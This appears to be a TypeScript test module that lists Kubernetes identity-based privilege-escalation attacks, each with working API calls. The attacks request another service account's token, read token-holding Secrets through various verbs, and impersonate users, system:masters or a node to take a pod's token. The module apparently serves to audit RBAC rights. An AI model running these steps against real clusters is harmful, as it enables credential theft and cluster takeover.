/** Becoming somebody else. */
import { eventually } from '../../../control-plane/eventually.ts'
import {
	type Attack,
	all,
	at,
	cellar,
	hasNow,
	labelled,
	node,
	prize,
	Refused,
	reach,
	type Scene,
	type SetScene,
	send,
	vault,
	type Way,
} from './attack.ts'

interface Secret {
	readonly metadata: { readonly name: string }
	readonly data?: Readonly<Record<string, string>>
}

const tokenType = 'kubernetes.io/service-account-token'

function tokenSecret(tag: string): object {
	return {
		apiVersion: 'v1',
		kind: 'Secret',
		metadata: { name: tag, ...labelled(tag), annotations: { 'kubernetes.io/service-account.name': 'victim' } },
		type: tokenType,
	}
}

function tokenIn({ data }: Secret): string | undefined {
	const encoded = data?.['token']
	return encoded === undefined ? undefined : Buffer.from(encoded, 'base64').toString()
}

/** With a Secret that holds the victim's token. */
async function withToken({ admin, home, tag }: SetScene): Promise<void> {
	await send(admin, 'POST', at('secrets', home), tokenSecret(tag))
	await eventually(
		() => admin.get<Secret>(at('secrets', home, tag)),
		(secret) => tokenIn(secret) !== undefined,
	)
}

type Reader = (scene: Scene) => Promise<Secret | undefined>

/** Each verb whose answer shows what is in a Secret. */
const readers: Readonly<Record<string, Reader>> = {
	get: ({ me, home, tag }) => send<Secret>(me, 'GET', at('secrets', home, tag)),
	list: (scene) => listed(scene, `?fieldSelector=metadata.name%3D${scene.tag}`),
	watch: async ({ me, home, tag }) => {
		const query = `?watch=true&timeoutSeconds=1&resourceVersion=0&fieldSelector=metadata.name%3D${tag}`
		const { status, text } = await me.request('GET', `${at('secrets', home)}${query}`)
		if (status === 403) throw new Refused(text)
		return (JSON.parse(text.split('\n')[0] ?? '') as { readonly object: Secret }).object
	},
	// A patch that changes nothing is answered with the whole object.
	patch: ({ me, home, tag }) => send<Secret>(me, 'PATCH', at('secrets', home, tag), {}),
}

/** A deletion of several is answered with each of them; a token that was in one is worth nothing any more. */
const dropper: Reader = (scene) => listed(scene, `?labelSelector=tag%3D${scene.tag}`, 'DELETE')

async function listed({ me, home, tag }: Scene, query: string, method = 'GET'): Promise<Secret | undefined> {
	const { items } = await send<{ readonly items: readonly Secret[] }>(me, method, `${at('secrets', home)}${query}`)
	return items.find(({ metadata }) => metadata.name === tag)
}

/** Is the victim with the token in a Secret, once the control plane has put it there. */
async function usesToken(scene: Scene, read: Reader): Promise<void> {
	// A refusal does not pass.
	const secret = await eventually(
		() => read(scene).catch((error: unknown) => (error instanceof Refused ? error : Promise.reject(error))),
		(seen) => seen instanceof Refused || (seen !== undefined && tokenIn(seen) !== undefined),
		{ what: 'a token' },
	)
	if (secret instanceof Refused) throw secret
	// The server believes in the token once it has seen the Secret itself.
	const thief = scene.me.bearing(tokenIn(secret as Secret) as string)
	await eventually(
		() => reach(thief, prize),
		() => true,
	)
}

function tokenWay(name = ''): Way {
	return {
		rights: [`create serviceaccounts/token${name}`],
		perform: async ({ me, home }) => {
			const { status } = await send<{ readonly status: { readonly token: string } }>(
				me,
				'POST',
				at('serviceaccounts/token', home, 'victim'),
				{ spec: {} },
			)
			await reach(me.bearing(status.token), prize)
		},
	}
}

function actsAs(rights: readonly string[], user: (scene: Scene) => string, ...groups: readonly string[]): Way {
	return { rights, perform: (scene) => reach(scene.me.as(user(scene), groups), prize) }
}

const victimOf = ({ home }: Scene) => `system:serviceaccount:${home}:victim`

function isMaster(rights: readonly string[], user: (scene: Scene) => string): Way {
	return {
		rights,
		perform: async (scene) => {
			const me = scene.me.as(user(scene), ['system:masters'])
			await send(me, 'GET', at('secrets', 'kube-system'))
			await hasNow(me, all)
		},
	}
}

/** Attacks by identities. */
export const identityAttacks: readonly Attack[] = [
	{
		id: 'token',
		what: 'asks for a token of another service account',
		goal: 'victim',
		ways: [tokenWay(), tokenWay(' =victim')],
	},
	{
		id: 'token-secret',
		what: 'makes a Secret into which the control plane puts the token of another service account, and reads it',
		goal: 'victim',
		ways: [
			...Object.entries(readers).map(
				([verb, read]): Way => ({
					rights: ['create secrets', `${verb} secrets`],
					perform: async (scene) => {
						await send(scene.me, 'POST', at('secrets', scene.home), tokenSecret(scene.tag))
						await usesToken(scene, read)
					},
				}),
			),
			{
				rights: ['create secrets ={tag}', 'patch secrets ={tag}'],
				perform: async (scene) => {
					const { me, home, tag } = scene
					await send(me, 'PATCH', at('secrets', home, tag), tokenSecret(tag), 'apply')
					await usesToken(scene, readers['patch'] as Reader)
				},
			},
		],
	},
	{
		id: 'read-token',
		what: 'reads a Secret that holds the token of another service account',
		goal: 'victim',
		ways: [
			...Object.entries(readers).map(
				([verb, read]): Way => ({
					rights: [`${verb} secrets`],
					setUp: withToken,
					perform: (scene) => usesToken(scene, read),
				}),
			),
			...['get', 'list', 'watch', 'patch'].map(
				(verb): Way => ({
					rights: [`${verb} secrets ={tag}`],
					setUp: withToken,
					perform: (scene) => usesToken(scene, readers[verb] as Reader),
				}),
			),
		],
	},
	{
		id: 'read-secrets',
		what: 'reads Secrets',
		goal: 'secrets',
		ways: Object.entries({ ...readers, deletecollection: dropper }).map(
			([verb, read]): Way => ({
				rights: [`${verb} secrets`],
				setUp: ({ admin, home, tag }) =>
					send(admin, 'POST', at('secrets', home), {
						metadata: { name: tag, ...labelled(tag) },
						stringData: { a: 'b' },
					}),
				perform: async (scene) => {
					const secret = await read(scene)
					if (secret?.data?.['a'] !== 'Yg==') throw new Error(`nothing in it: ${JSON.stringify(secret)}`)
				},
			}),
		),
	},
	{
		id: 'impersonate-account',
		what: 'says to be another service account',
		goal: 'victim',
		ways: [
			actsAs(['impersonate serviceaccounts'], victimOf),
			actsAs(['impersonate serviceaccounts =victim'], victimOf),
		],
	},
	{
		id: 'impersonate-user',
		what: 'says to be another user',
		goal: 'victim',
		ways: [
			actsAs(['impersonate users everywhere'], () => 'victim-user'),
			actsAs(['impersonate users =victim-user everywhere'], () => 'victim-user'),
		],
	},
	{
		id: 'impersonate-group',
		what: 'says to be in another group',
		goal: 'victim',
		ways: [
			actsAs(
				['impersonate users everywhere =anybody', 'impersonate groups =victims everywhere'],
				() => 'anybody',
				'victims',
			),
		],
	},
	{
		id: 'impersonate-masters',
		what: 'says to be in the group system:masters',
		goal: 'everything',
		ways: [
			isMaster(['impersonate users =anybody everywhere', 'impersonate groups everywhere'], () => 'anybody'),
			isMaster(
				['impersonate users =anybody everywhere', 'impersonate groups =system:masters everywhere'],
				() => 'anybody',
			),
			isMaster(['impersonate serviceaccounts', 'impersonate groups everywhere'], victimOf),
			isMaster(['impersonate serviceaccounts =victim', 'impersonate groups =system:masters everywhere'], victimOf),
		],
	},
	{
		id: 'impersonate-node',
		what: 'says to be a node, and asks for the token of a pod on it',
		goal: 'keeper',
		ways: [
			{
				rights: [`impersonate users =system:node:${node} everywhere`, 'impersonate groups =system:nodes everywhere'],
				perform: async ({ me }) => {
					const kubelet = me.as(`system:node:${node}`, ['system:nodes'])
					await asNode(kubelet, me)
				},
			},
		],
	},
]

/** Takes the token of the keeper, whose pod is on the node. */
export async function asNode(kubelet: Scene['me'], me: Scene['me']): Promise<void> {
	const { metadata } = await send<{ readonly metadata: { readonly uid: string } }>(
		kubelet,
		'GET',
		at('pods', vault, 'keeper'),
	)
	const boundObjectRef = { apiVersion: 'v1', kind: 'Pod', name: 'keeper', uid: metadata.uid }
	const { status } = await send<{ readonly status: { readonly token: string } }>(
		kubelet,
		'POST',
		at('serviceaccounts/token', vault, 'keeper'),
		{ spec: { boundObjectRef } },
	)
	await reach(me.bearing(status.token), cellar)
}
